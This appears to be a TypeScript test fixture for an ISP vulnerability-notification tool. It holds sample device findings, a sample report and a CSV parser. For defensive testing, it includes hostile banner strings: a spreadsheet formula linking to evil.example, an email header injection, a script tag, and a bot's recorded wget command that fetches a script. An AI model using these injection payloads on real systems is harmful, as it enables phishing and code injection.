/**
 * Findings for the notification tests, shaped like the ones the survey, the firmware
 * phase, the darknet and the honeypot import really write (see their sources), plus a
 * device whose banner strings are hostile.
 */
import type { NotifiableFinding } from '../../src/core/records.ts';
import type { NotificationReport } from '../../src/notify/render/report.ts';

const attribution = {
  prefix: '198.51.100.0/24',
  asn: 64500,
  asName: 'EXAMPLE-NET Example Networks',
  country: 'jp',
  ispId: 'isp-a',
  ispName: 'Example ISP',
  source: 'registry' as const,
};

const base = { status: 'open' as const, firstSeen: '2025-01-10T01:00:00.000Z', lastSeen: '2025-01-31T15:30:00.000Z', attribution };

export const weakTelnet: NotifiableFinding = {
  ...base,
  id: 11,
  kind: 'weak-credential',
  ip: '198.51.100.7',
  port: 23,
  protocol: 'telnet',
  // The survey stores the user name that worked; reports must not pass it on.
  evidence: { prompt: 'login:', username: 'admin-user-secret' },
  vendor: 'Korvan',
  model: 'IPC-2120',
  deviceType: 'ip-camera',
  firmwareVersion: '3.1.4',
  releaseYear: 2014,
};

export const openShell: NotifiableFinding = {
  ...base,
  id: 12,
  kind: 'no-authentication',
  ip: '198.51.100.9',
  port: 2323,
  protocol: 'telnet',
  evidence: { prompt: '#' },
  vendor: 'Hanwa',
  model: 'R-100',
  deviceType: 'router',
};

export const vulnerableFirmware: NotifiableFinding = {
  ...base,
  id: 13,
  kind: 'vulnerable-firmware',
  ip: '198.51.100.7',
  port: 80,
  protocol: 'http',
  evidence: {
    cveIds: ['CVE-2019-10999', 'CVE-2018-0001'],
    cves: [
      {
        cveId: 'CVE-2019-10999',
        baseScore: 8.8,
        severity: 'HIGH',
        cvssVersion: '3.1',
        kev: true,
        ransomware: false,
        confidence: 0.95,
        matchEvidence: 'korvan:ipc-2120_firmware 3.1.4 in range',
        priority: 0.82,
        priorityLabel: 'urgent',
      },
      {
        cveId: 'CVE-2018-0001',
        baseScore: 5.3,
        severity: 'MEDIUM',
        cvssVersion: '3.1',
        kev: false,
        ransomware: false,
        confidence: 0.7,
        matchEvidence: 'x',
        priority: 0.3,
        priorityLabel: 'medium',
      },
    ],
    maxBaseScore: 8.8,
    kev: true,
    ransomware: false,
    priority: 0.82,
    priorityLabel: 'urgent',
    firmwareVersion: '3.1.4',
  },
  vendor: 'Korvan',
  model: 'IPC-2120',
  deviceType: 'ip-camera',
  firmwareVersion: '3.1.4',
  releaseYear: 2014,
};

export const darknetBot: NotifiableFinding = {
  ...base,
  id: 14,
  kind: 'infected',
  ip: '198.51.100.20',
  port: 0,
  protocol: 'darknet',
  evidence: {
    source: 'darknet',
    family: 'mirai',
    ports: [23, 2323],
    packets: 5120,
    distinctDestinations: 4000,
    daysSeen: ['2025-01-30', '2025-01-31'],
    darknets: ['203.0.113.0/24'],
    confidence: 0.95,
  },
};

export const honeypotBot: NotifiableFinding = {
  ...base,
  id: 15,
  kind: 'infected',
  ip: '2001:db8::20',
  port: 0,
  protocol: 'honeypot',
  attribution: { ...attribution, prefix: '2001:db8::/32' },
  // Cowrie evidence: what the bot typed and which names it tried must never reach a report.
  evidence: {
    source: 'honeypot',
    confidence: 0.9,
    reason: 'logged in and ran commands',
    protocols: ['telnet'],
    sessions: 3,
    loginAttempts: 9,
    loginSuccesses: 1,
    usernames: ['root-typed-by-bot'],
    commands: 4,
    commandSamples: ['wget http://198.51.100.66/x.sh'],
    downloads: [],
  },
};

/** Banner strings a hostile device could present: line breaks, a formula, controls, markup, a link. */
export const hostileDevice: NotifiableFinding = {
  ...base,
  id: 16,
  kind: 'weak-credential',
  ip: '198.51.100.30',
  port: 80,
  protocol: 'http',
  evidence: {},
  vendor: '=HYPERLINK("http://evil.example","click")',
  model: 'Cam {isp}\r\nBcc: victim@example.com\u001b[31m<script>x</script>\u202e',
  deviceType: 'ip-camera',
  firmwareVersion: '+1.0\u0000\u0085{program}',
};

export const ssdpReflector: NotifiableFinding = {
  ...base,
  id: 17,
  kind: 'reflector',
  ip: '198.51.100.23',
  port: 1900,
  protocol: 'ssdp',
  evidence: {
    request: 'M-SEARCH ssdp:all',
    requestBytes: 94,
    replyBytes: 2860,
    replyPackets: 9,
    amplification: 30.43,
    facts: {
      server: 'Linux/3.4 UPnP/1.0 MiniUPnPd/1.6',
      location: 'http://192.168.1.1:5000/rootDesc.xml',
      searchTarget: 'upnp:rootdevice',
      usn: 'uuid:5e1f0c2a-0000-4000-8000-00a0b0c0d0e0::upnp:rootdevice',
    },
  },
  vendor: 'Hanwa',
  model: 'R-100',
  deviceType: 'router',
};

/** An NTP server that answers monlist (mode 7 MON_GETLIST_1) with its list of recent clients. */
export const ntpMonlistReflector: NotifiableFinding = {
  ...base,
  id: 18,
  kind: 'reflector',
  ip: '198.51.100.41',
  port: 123,
  protocol: 'ntp',
  evidence: {
    request: 'monlist',
    requestBytes: 8,
    replyBytes: 44000,
    replyPackets: 100,
    amplification: 5500,
    facts: { version: 'ntpd 4.2.6p5@1.2349-o', stratum: 3, monlistEntries: 600 },
  },
};

export const allFindings = [weakTelnet, openShell, vulnerableFirmware, darknetBot, honeypotBot, hostileDevice, ssdpReflector, ntpMonlistReflector];

/** A report over the given findings, for ISP "Example ISP". */
export function sampleReport(findings: NotifiableFinding[] = allFindings, language: 'ja' | 'en' = 'en'): NotificationReport {
  return {
    reportId: 'r-42',
    isp: { id: 'isp-a', name: 'Example ISP', language },
    generatedAt: '2025-02-01T00:00:00.000Z',
    periodStart: '2025-01-01T00:00:00.000Z',
    periodEnd: '2025-01-31T23:59:59.000Z',
    findings,
    program: {
      name: 'opennotice',
      url: 'https://notice.example/about',
      contact: 'notice@notice.example',
      since: '2024-04-01T00:00:00.000Z',
      adviceUrls: { 'weak-credential': 'https://notice.example/advice/password', infected: 'https://notice.example/advice/infected' },
    },
  };
}

/** A strict RFC 4180 reader for tests: rows of cells; throws on a malformed quote. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let index = 0;
  while (index < text.length) {
    const char = text[index]!;
    if (char === '"' && cell === '') {
      let quoted = '';
      let cursor = index + 1;
      for (;;) {
        const next = text.indexOf('"', cursor);
        if (next < 0) throw new Error(`unterminated quote at ${index}`);
        quoted += text.slice(cursor, next);
        if (text[next + 1] === '"') {
          quoted += '"';
          cursor = next + 2;
          continue;
        }
        index = next + 1;
        break;
      }
      cell = quoted;
      if (![',', '\r', undefined].includes(text[index])) throw new Error(`text after closing quote at ${index}`);
      continue;
    }
    if (char === ',') {
      row.push(cell);
      cell = '';
      index++;
      continue;
    }
    if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 2;
      continue;
    }
    if (char === '\n' || char === '\r') throw new Error(`bare line break at ${index}`);
    cell += char;
    index++;
  }
  if (cell !== '' || row.length > 0) throw new Error('missing final CRLF');
  return rows;
}
